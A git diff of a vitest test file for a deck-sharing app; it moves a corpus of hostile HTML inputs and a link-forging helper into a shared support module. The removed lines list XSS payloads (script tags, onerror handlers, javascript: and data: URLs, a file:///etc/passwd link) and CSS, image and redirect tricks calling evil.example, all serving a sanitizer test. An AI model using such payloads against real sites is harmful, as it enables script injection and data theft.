@@ -1,16 +1,15 @@
 import { describe, expect, test } from 'vitest';
 import type { DeckText } from '$lib/core/deck/card';
 import { hasUnseen, showUnseen } from '$lib/core/deck/unseen';
-import { hashText } from '$lib/core/random';
-import { base64urlFromBytes } from '$lib/core/sharing/base64url';
 import { readBytes, readText } from '$lib/core/sharing/formats/read';
 import { deckFromLink } from '$lib/core/sharing/link';
 import { pageFromDeck } from '$lib/core/sharing/written/page';
 import { spreadsheetFromDeck } from '$lib/core/sharing/written/spreadsheet';
 import { pageWords } from '$lib/copy/sharing';
 import * as codec from '$lib/platform/deflate';
+import { forge, markup } from '../../../support/corpus';
 
-/** No input may take longer; a busy machine is no excuse, since only the time of this process counts. */
+/** Numbers are those of the corpus, all of which comes as a student would open it in tests/state/corpus. No input may take longer; a busy machine is no excuse, since only the time of this process counts. */
 const budgetMs = 2_000;
 
 function timed<T>(run: () => T): T {
@@ -38,34 +37,6 @@ function bodyOf(deck: DeckText): string {
 	const page = pageFromDeck(deck, pageWords);
 	return page.slice(page.indexOf('<body>') + 6, page.indexOf('</body>'));
 }
-
-/** Numbers are those of the corpus. */
-const markup: readonly (readonly [number, string])[] = [
-	[1, '<script>alert(1)</script>words'],
-	[2, '<img src=x onerror=alert(1)>words'],
-	[3, '<svg onload=alert(1)>words'],
-	[4, '<svg><script>alert(1)</script><foreignObject><body onload=a></foreignObject></svg>words'],
-	[5, '<svg><use href="data:image/svg+xml,<svg id=x/>#x"/></svg>words'],
-	[6, '<iframe srcdoc="<script>parent.a()</script>"></iframe>words'],
-	[7, '<a href="javascript:alert(1)">words</a>'],
-	[8, '<a href="jav&#x09;ascript:alert(1)">words</a><a href=" JaVaScRiPt:a">words</a>'],
-	[9, '<a href="data:text/html,<script>a</script>">words</a>'],
-	[10, '<a href="vbscript:a">words</a><a href="file:///etc/passwd">words</a><a href="blob:x">words</a>'],
-	[12, '<!-- unclosed words <b>words</b>'],
-	[13, '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=a&gt;">words'],
-	[14, '<form id=attributes><input name=nodeName></form>words'],
-	[15, '<style>@import url(https://evil.example)</style>words'],
-	[16, '<style>input[value^=a]{background:url(https://evil.example)}</style>words'],
-	[17, '<p style="background:url(https://evil.example)">words</p>'],
-	[
-		18,
-		'<img src=https://evil.example srcset="https://evil.example 2x"><video poster=https://evil.example></video>words'
-	],
-	[19, '<meta http-equiv=refresh content="0;url=https://evil.example">words<p>'],
-	[20, '<base href=https://evil.example>words'],
-	[21, '<form action=https://evil.example><input autofocus onfocus=a></form>words'],
-	[22, `${'<b>'.repeat(10_000)}words${'</b>'.repeat(10_000)}`]
-];
 
 describe('markup', () => {
 	test.each(markup)('%i becomes words, whatever format it comes in', (_, html) => {
@@ -105,14 +76,6 @@ describe('markup', () => {
 		expect(textsOf(decks)).toEqual(['a', 'b']);
 	});
 });
-
-/** A whole link around any text: as a stranger would forge it. */
-async function forge(text: string): Promise<string> {
-	const bytes = await codec.deflate(new TextEncoder().encode(text));
-	const body = `1d${bytes.ok ? base64urlFromBytes(bytes.value) : ''}`;
-	const [word] = hashText(body);
-	return `#d=${body}${base64urlFromBytes(new Uint8Array([word >>> 24, word >>> 16, word >>> 8, word]))}`;
-}
 
 describe('JSON, tables, text', () => {
 	test.each([
